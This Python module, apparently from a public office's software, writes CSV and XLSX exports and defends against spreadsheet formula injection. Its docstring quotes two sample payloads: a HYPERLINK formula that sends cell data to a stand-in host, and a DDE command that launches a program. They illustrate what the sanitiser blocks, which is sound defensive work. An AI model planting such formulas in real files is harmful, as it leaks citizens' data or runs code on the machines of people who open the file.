"""What goes to a spreadsheet (CSV or XLSX), made inert: the one place that writes either.

Names, subjects, reasons and addresses come from strangers (mail, the online desk). A cell a
spreadsheet reads as a formula (`=HYPERLINK("http://evil.example/?x="&B2,"Apri")`,
`=cmd|' /C calc'!A0`) can send other citizens' data away or run a program when the office
opens the file. The rule (OWASP "CSV Injection", widened):

- text starting with `=`, `+`, `-`, `@`, a tab, CR or LF, or their full-width forms
  (U+FF1D, U+FF0B, U+FF0D, U+FF20, which some spreadsheets fold to ASCII on input), or with
  any of these after leading blanks (an import may trim them), is *risky*;
- in CSV a risky text gets a leading apostrophe (`'=HYPERLINK(…)`), which every spreadsheet
  shows as text; the csv module quotes cells holding the separator, a quote or a line break,
  so no cell can start a new one;
- in XLSX every text is written as an explicit string cell (`t="inlineStr"`, never `<f>`), a
  risky one with the "quote prefix" style (what Excel itself stores when a user types `'=…`),
  so it shows exactly as written and stays text when edited; control characters XML cannot
  carry are dropped.

Only `str` values are judged: the numbers and dates the program itself writes stay numbers
and dates. defusedcsv was considered: it leaves tab- and CR-led cells alone (OWASP lists both)
and rewrites `|` in the text; this rule is a superset, and the XLSX writer needs it too.
Only this module imports openpyxl.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_BLANKS = " \u00a0\u3000"  # what an import may trim before reading a formula
# XML 1.0 cannot carry these; openpyxl refuses a cell holding one (IllegalCharacterError)
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

Cell = str | int | float | date | datetime | None


def risky(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula (or a DDE command)."""
    if not text:
        return False
    visible = text.lstrip(_BLANKS)
    return text[0] in FORMULA_STARTS or (visible != "" and visible[0] in FORMULA_STARTS)


def neutralise(text: str) -> str:
    """The text as a CSV cell a spreadsheet shows as text: a risky one gets an apostrophe."""
    return "'" + text if risky(text) else text


def csv_text(
    header: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    render: Callable[[Any], str] = str,
    delimiter: str = ";",
) -> str:
    """A CSV document (CRLF lines, a BOM so spreadsheets read UTF-8): every text neutralised,
    every other value (the program's numbers and dates) written by `render`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([neutralise(label) for label in header])
    for row in rows:
        writer.writerow([csv_cell(value, render) for value in row])
    return "\ufeff" + out.getvalue()


def csv_cell(value: Cell, render: Callable[[Any], str] = str) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    return render(value)


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook: its title, the header and the rows under it."""

    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Cell]]


def write_xlsx(
    path: Path,
    title: str,
    header: Sequence[str],
    rows: Sequence[Sequence[Cell]],
    render: Callable[[Any], str] = str,
) -> None:
    """One sheet: a bold, frozen header; dates shown 11/03/2026 and decimals 1.234,50 (in an
    Italian Excel); every text an explicit string cell. `render` sizes the columns."""
    write_workbook(path, [Sheet(title, header, rows)], render)


def write_workbook(path: Path, sheets: Sequence[Sheet], render: Callable[[Any], str] = str) -> None:
    """Several sheets in one file (an upload laid out sheet by sheet), each as `write_xlsx`
    writes its one; titles are cut to the 31 characters a sheet name may have."""
    from openpyxl import Workbook

    book = Workbook()
    first = book.active
    assert first is not None
    book.remove(first)
    for sheet in sheets:
        _fill(book.create_sheet(_xml_safe(sheet.title)[:31]), sheet, render)
    book.save(path)


def _fill(sheet: Any, data: Sheet, render: Callable[[Any], str]) -> None:
    from openpyxl.styles import Font

    header, rows = data.header, data.rows
    sheet.append([_xml_safe(label) for label in header])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.data_type = "s"
    for values in rows:
        sheet.append([_xml_safe(v) if isinstance(v, str) else v for v in values])
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            if isinstance(cell.value, str):
                text = cell.value
                cell.data_type = "s"  # openpyxl made a formula of any text starting with "="
                cell.quotePrefix = risky(text)
            elif isinstance(cell.value, datetime | date):
                cell.number_format = "DD/MM/YYYY"
            elif isinstance(cell.value, float):
                cell.number_format = "#,##0.00"
    for index, label in enumerate(header, start=1):
        lengths = (len(csv_cell(r[index - 1], render)) for r in rows)
        width = max([len(label), *lengths]) + 2
        sheet.column_dimensions[sheet.cell(1, index).column_letter].width = min(width, 60)
    sheet.freeze_panes = "A2"


def _xml_safe(text: str) -> str:
    return _XML_ILLEGAL.sub("", text)
